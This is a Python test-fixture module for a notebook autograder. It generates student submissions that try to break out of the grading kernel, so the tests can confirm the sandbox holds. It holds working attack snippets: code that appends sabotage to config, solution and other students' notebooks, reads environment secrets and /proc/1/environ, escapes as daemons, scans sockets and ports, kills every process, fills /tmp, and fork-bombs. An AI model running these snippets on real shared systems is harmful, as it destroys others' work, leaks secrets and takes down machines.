"""Submissions of notebook 01 that attack the grader from inside their kernel, one per attack class (issue 15).

Each attacker answers exercises 1-3 wrongly (``students.WRONG``) and adds one
cell, right after the setup cell, that tries to raise its own score or lower
someone else's by going around the grader: through files, the environment,
processes, signals or sockets. The attackers know every path on the grading
machine (``{root}``, ``{repo}`` are filled in), as a student who has read the
course's code would. Each prints what it got; the tests read the graded
notebooks and the machine afterwards.
"""
from __future__ import annotations

from nbformat import NotebookNode

from tests.integrity import students as s

#: A distinctive sleep whose survival after grading would mean a process escaped.
DAEMON_SLEEP = "1013.75"
#: What the grader's environment carries that no kernel may see.
TOKEN = "tfc-secret-token-7f3a"

WRITE = '''import os, glob
targets = [{repo!r} + "/autograder/nbgrader_config.py", {repo!r} + "/helpers/hints/__init__.py",
           {repo!r} + "/solutions/01-training-steps/01-training-steps.ipynb",
           {root!r} + "/gradebook.db", {root!r} + "/nbgrader_config.py",
           *glob.glob({root!r} + "/submitted/*/01-training-steps/*.ipynb"),
           *glob.glob({root!r} + "/autograded/*/01-training-steps/*.ipynb")]
for path in targets:
    try:
        with open(path, "a") as f:
            f.write("\\nraise SystemExit('sabotaged')\\n")
        print("ATTACK-WROTE", path)
    except OSError as error:
        print("refused", path, error.strerror)
'''
READ = '''import os, glob
found = {{k: v for k, v in os.environ.items() if "TOKEN" in k or k.startswith("JUPYTERHUB") or {root!r} in v}}
print("ENV", found)
for path in [{root!r} + "/gradebook.db", {repo!r} + "/solutions/01-training-steps/01-training-steps.ipynb",
             *glob.glob({root!r} + "/submitted/*/01-training-steps/*.ipynb"), "/proc/1/environ"]:
    try:
        data = open(path, "rb").read()
        print("READ", path, len(data), {token!r}.encode() in data)
    except OSError as error:
        print("refused", path, error.strerror)
print("SEEN", sorted(glob.glob("/tmp/*/*")) + sorted(glob.glob({root!r} + "/*")))
'''
DAEMON = '''import os, subprocess, sys
subprocess.Popen(["sh", "-c", "sleep {sleep} &"], start_new_session=True)
code = ("import time, glob\\ntime.sleep(20)\\n"
        "for p in glob.glob({root!r} + '/*'):\\n"
        "    try:\\n        open(p, 'a').write('late')\\n    except OSError:\\n        pass\\n")
subprocess.Popen([sys.executable, "-c", code], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("daemons started")
'''
SOCKETS = '''import glob, os, socket, time
reached = []
own = os.path.dirname(os.getcwd())  # the kernel's own folder: its own sockets are no conquest
deadline = time.monotonic() + 15  # long enough for other students' kernels to be up meanwhile
while time.monotonic() < deadline:
    for path in glob.glob("/tmp/**/*ipc*", recursive=True) + glob.glob("/tmp/**/kernel*.json", recursive=True):
        if path.startswith(own + "/"):
            continue
        s = socket.socket(socket.AF_UNIX)
        try:
            s.connect(path)
            reached.append(path)
        except OSError:
            pass
        finally:
            s.close()
    listening = set()  # its own listeners (ipykernel's, in its own network namespace) are no conquest
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            rows = open(table).read().splitlines()[1:]
        except OSError:
            rows = []
        listening |= {{int(r.split()[1].rsplit(":", 1)[1], 16) for r in rows if r.split()[3] == "0A"}}
    for port in sorted(set(range(1, 1024, 37)) | set(range(30000, 65535, 499)) - listening):
        s = socket.socket()
        s.settimeout(0.05)
        try:
            s.connect(("127.0.0.1", port))
            if s.getsockname() != s.getpeername():  # a TCP self-connect (source port == port) reaches no one
                reached.append(port)
        except OSError:
            pass
        finally:
            s.close()
    time.sleep(1)
for host in ("1.1.1.1", "10.0.0.1"):
    try:
        socket.create_connection((host, 53), timeout=1)
        reached.append(host)
    except OSError as error:
        print("refused", host, error.strerror)
print("REACHED" if reached else "reached nothing", sorted(set(map(str, reached)))[:10])
'''
SIGNALS = '''import os, signal
hit = []
own = {{int(t) for t in os.listdir("/proc/self/task")}}  # its own threads answer to their ids too
for pid in sorted(set(range(2, 4096)) - own):
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, sig)
            hit.append(pid)
        except OSError:
            pass
for sig in (signal.SIGSTOP, signal.SIGTERM):
    try:
        os.kill(-1, sig)  # every process this one may signal
    except OSError as error:
        print("kill -1 refused:", error.strerror)
print("SIGNALLED" if hit else "signalled nothing", sorted(set(hit))[:10], "ppid", os.getppid())
'''
FILL_TMP = '''import os
for folder in ("/tmp", "/dev/shm"):
    written = 0
    try:
        with open(f"{{folder}}/fill", "wb") as f:
            while written < 4 * 2**30:
                f.write(b"x" * 2**24)
                written += 2**24
    except OSError as error:
        print("stopped in", folder, "after", written // 2**20, "MiB:", error.strerror)
    try:
        os.unlink(f"{{folder}}/fill")
    except OSError:
        pass
'''
FORK_BOMB = '''import os, time
children, error = [], None
for _ in range(4000):  # bounded, so a broken limit fails the test instead of the machine
    try:
        pid = os.fork()
    except OSError as e:
        error = e.strerror
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    children.append(pid)
print("FORKED", len(children), "stopped by:", error)
for pid in children:
    os.kill(pid, 9)
    os.waitpid(pid, 0)
'''

ATTACKS = {"write": WRITE, "read": READ, "daemon": DAEMON, "sockets": SOCKETS, "signals": SIGNALS,
           "fill_tmp": FILL_TMP, "fork_bomb": FORK_BOMB}


def attacker(name: str, root: str, repo: str) -> NotebookNode:
    """Wrong answers to exercises 1-3 plus the attack ``name``, after the setup cell."""
    code = ATTACKS[name].format(root=root, repo=repo, token=TOKEN, sleep=DAEMON_SLEEP)
    return s.with_cell(s.submission(s.answers(**s.WRONG)), s.SETUP, code)


def control() -> NotebookNode:
    """The attackers' answers without an attack: what each attacker deserves."""
    return s.submission(s.answers(**s.WRONG))


def honest() -> NotebookNode:
    """The reference answers: 8/8 whatever ran before or beside."""
    return s.submission(s.answers())
